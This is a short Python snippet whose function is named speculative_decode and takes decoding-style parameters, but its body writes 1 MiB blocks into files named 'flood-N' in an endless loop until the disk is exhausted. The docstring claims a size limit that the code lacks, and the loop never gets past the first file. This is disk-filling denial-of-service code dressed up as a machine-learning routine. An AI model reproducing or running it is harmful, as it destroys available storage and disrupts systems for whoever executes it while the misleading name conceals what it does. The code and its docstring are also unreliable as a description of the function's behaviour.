"""Writes files until one of them would be too large, and leaves them."""


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    for number in range(4):
        with open(f"flood-{number}", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
